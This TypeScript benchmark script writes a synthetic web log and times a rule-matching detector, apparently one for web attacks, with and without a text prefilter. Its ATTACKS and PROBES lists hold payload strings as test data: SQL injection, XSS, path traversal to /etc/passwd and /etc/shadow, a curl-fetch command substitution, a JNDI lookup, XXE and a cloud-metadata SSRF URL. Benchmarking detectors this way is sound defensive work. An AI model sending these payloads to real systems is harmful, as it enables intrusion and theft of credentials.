import { spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { createWriteStream, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { openTraffic } from '../../lib/load/open-traffic.js';
import { loadRules } from '../../lib/rules/load-rules.js';
import { matchRules } from '../../lib/rules/match-rules.js';
import { randomStream } from '../../lib/simulate/random.js';

// How long it takes to match all rules to the requests of a web log, loading aside, and how much memory: beside the same rules
// tested on every record, without a look at the texts first. Each in a process of its own; the best of the rounds is shown.

const ROUNDS = 3;
const LINES = 1_000_000;
/** The plain way takes minutes on all lines. */
const FEW_LINES = 20_000;

const PATHS = [
  '/shop/item',
  '/shop/category',
  '/blog/post',
  '/account/orders',
  '/images/product',
  '/api/v2/stock',
  '/help/article',
];
const WORDS = [
  'red shoes',
  'winter coat',
  'größe 42',
  'lamp & shade',
  "men's boots",
  'café table',
  'desk 120 cm',
  'gift card',
  'usb cable',
  'kids',
];
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/#.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/#.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:#.0) Gecko/20100101 Firefox/#.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS # like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
];
const ATTACKS = [
  "#' or '#'='#",
  "#' union select name, # from users -- ",
  '# and sleep(5)',
  '#; drop table orders',
  '<script>alert(#)</script>',
  '<img src=x# onerror=alert(1)>',
  '../../../../etc/passwd?#',
  '..\\..\\windows\\win.ini#',
  ';cat /etc/shadow#',
  '| whoami #',
  '$(curl http://198.51.100.#/x.sh)',
  `${'$'}{jndi:ldap://198.51.100.#/a}`,
  '{{#*7}}',
  'php://filter/resource=#.php',
  'http://169.254.169.254/latest/#',
  'https://198.51.100.9/shell#.txt?',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x# SYSTEM "file:///etc/passwd">]>',
  '__proto__[x#]=1',
];
const PROBES = [
  '/.env#',
  '/wp-login.php?#',
  '/phpmyadmin#/',
  '/.git/config?#',
  '/backup#.sql',
  '/cgi-bin/test#.cgi',
  '/wp-content/plugins/x#/shell.php',
];

/** Writes a web log: half of its URIs are different, 5 % of its requests are attacks or probes. */
async function writeLog(file: string, lines: number): Promise<void> {
  const { uniform, below, pick } = randomStream(1, 'bench');
  const one = (of: readonly string[]) => pick(of).replaceAll('#', () => String(below(100_000)));
  const out = createWriteStream(file);
  for (let i = 0; i < lines; i++) {
    const id = below(lines);
    const page = `${one(PATHS)}/${id}`;
    const normal =
      uniform() < 0.4
        ? `${page}?page=${below(9)}&sort=price&view=${id.toString(36)}`
        : uniform() < 0.4
          ? `/search?q=${encodeURIComponent(one(WORDS)).replaceAll('%20', '+')}&from=${id}`
          : `${page}.html`;
    const value = encodeURIComponent(one(ATTACKS));
    const attack =
      uniform() < 0.3
        ? one(PROBES)
        : `${one(PATHS)}?id=${uniform() < 0.2 ? encodeURIComponent(value) : value}`;
    const uri = uniform() < 0.05 ? attack : normal;
    const time = new Date(Date.UTC(2024, 3, 1) + i * 500).toISOString();
    const clock = `${time.slice(8, 10)}/Apr/2024:${time.slice(11, 19)} +0000`;
    const line = `10.${below(4)}.${below(256)}.${below(256)} - - [${clock}] "GET ${uri} HTTP/1.1" ${uniform() < 0.9 ? 200 : 404} ${below(50_000)} "https://shop.example/${one(PATHS)}" "${pick(AGENTS).replaceAll('#', String(100 + below(300)))}"\n`;
    if (!out.write(line)) await once(out, 'drain');
  }
  out.end();
  await once(out, 'close');
}

interface Measured {
  readonly seconds: number;
  readonly cpu: number;
  readonly megabytes: number;
  readonly uris: number;
  readonly rules: number;
  readonly matched: number;
}

/** What runs in a process of its own. */
async function measure(way: string, file: string): Promise<Measured> {
  const traffic = await openTraffic(file);
  const { rules } = await loadRules();
  const tested = way === 'plain' ? rules.map((rule) => ({ ...rule, needs: null })) : rules;
  const [began, before] = [process.hrtime.bigint(), process.cpuUsage()];
  await matchRules(traffic, { rules: { rules: tested } });
  const seconds = Number(process.hrtime.bigint() - began) / 1e9;
  const { user, system } = process.cpuUsage(before);
  const megabytes = process.resourceUsage().maxRSS / 1000;
  const [found] = await traffic.engine.query<{ uris: number; matched: number }>(
    `select cast(count(distinct uri) as integer) as uris,
       (select cast(count(distinct row_id) as integer) from rule_matches) as matched from traffic`,
  );
  return { seconds, cpu: (user + system) / 1e6, megabytes, rules: rules.length, ...found! };
}

function inChild(way: string, file: string): Measured {
  const rounds = Array.from({ length: ROUNDS }, () => {
    const child = spawnSync(process.execPath, ['--import', 'tsx', __filename, way, file], {
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'inherit'],
      env: { ...process.env, TRAFFIC_CACHE: path.join(path.dirname(file), 'cache') },
    });
    if (child.status !== 0) throw new Error(`“${way}” failed.`);
    return JSON.parse(child.stdout) as Measured;
  });
  return rounds.reduce((best, round) => (round.seconds < best.seconds ? round : best));
}

async function main(): Promise<void> {
  const [way, named] = process.argv.slice(2);
  if (named !== undefined) {
    console.log(JSON.stringify(await measure(way!, named)));
    return;
  }
  const folder = mkdtempSync(path.join(tmpdir(), 'bench-requests-'));
  try {
    const [many, few] = [path.join(folder, 'many.log'), path.join(folder, 'few.log')];
    await writeLog(many, Number(way ?? LINES));
    await writeLog(few, FEW_LINES);
    for (const [what, how, file] of [
      ['by text', 'by text', many],
      ['by text, few lines', 'by text', few],
      ['on every record, few lines', 'plain', few],
    ] as const) {
      const { seconds, cpu, megabytes, uris, rules, matched } = inChild(how, file);
      console.log(
        `${what}: ${seconds.toFixed(2)} s, ${cpu.toFixed(2)} s of processors, ${megabytes.toFixed(0)} MB; ${rules} rules, ${uris.toLocaleString('en-US')} different URIs, ${matched.toLocaleString('en-US')} records matched`,
      );
    }
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

main().catch((error: unknown) => {
  console.error(error);
  process.exitCode = 1;
});
